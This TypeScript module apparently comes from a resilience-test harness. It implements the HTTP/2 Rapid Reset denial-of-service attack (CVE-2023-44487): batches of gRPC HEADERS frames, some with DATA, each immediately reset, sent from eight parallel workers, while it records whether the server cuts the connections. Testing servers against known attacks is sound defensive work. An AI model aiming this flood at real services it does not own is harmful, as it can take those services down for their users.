import {
  type Attack,
  type AttackBudget,
  type AttackOutcome,
  createTally,
  repeat,
  type Tally,
  type Target,
} from "./attack.js";
import { dataFrame, headersFrame, rstFrame } from "./h2-frames.js";
import { grpcHeaders, openH2, rodrigo, unaryPath } from "./h2-session.js";
import type { RawConnection } from "./raw-connection.js";

const batch = 100;

/**
 * Calls that are cancelled in the packet that makes them (CVE-2023-44487), so
 * that the limit on open streams never counts them. The connections on which
 * it happens too often are cut.
 */
export const rapidReset: Attack = {
  name: "rapid-reset",
  what: "calls that are reset as soon as they are made, every other one with its message",
  unit: "streams",
  full: { count: 60_000, holdMs: 0 },
  quick: { count: 3_000, holdMs: 0 },
  run: attackByResets,
};

async function attackByResets(
  target: Target,
  { count }: AttackBudget,
): Promise<AttackOutcome> {
  const tally = createTally();
  let left = count;
  await repeat(8, 8, async () => {
    while (left > 0) {
      const connection = await openH2(target);
      let streamId = 1;
      while (left > 0 && !connection.isClosed()) {
        left -= batch;
        await sendBatch(connection, streamId, tally);
        streamId += 2 * batch;
      }
      // What is left by RST is never read.
      const wasCut = connection.isClosed();
      await connection.finish(30_000);
      tally.add(wasCut ? "connections cut" : "connections left");
      connection.leave();
    }
  });
  return { counts: tally.counts, wrong: [] };
}

async function sendBatch(
  connection: RawConnection,
  firstId: number,
  tally: Tally,
): Promise<void> {
  const frames: Buffer[] = [];
  for (let index = 0; index < batch; index++) {
    const id = firstId + 2 * index;
    frames.push(headersFrame(id, grpcHeaders(unaryPath)));
    if (index % 2 === 1) {
      frames.push(dataFrame(id, rodrigo, true));
    }
    frames.push(rstFrame(id));
  }
  await connection.write(Buffer.concat(frames));
  tally.add("streams", batch);
  // Give others a turn: nothing here waits for the network.
  await new Promise((resolve) => setImmediate(resolve));
}
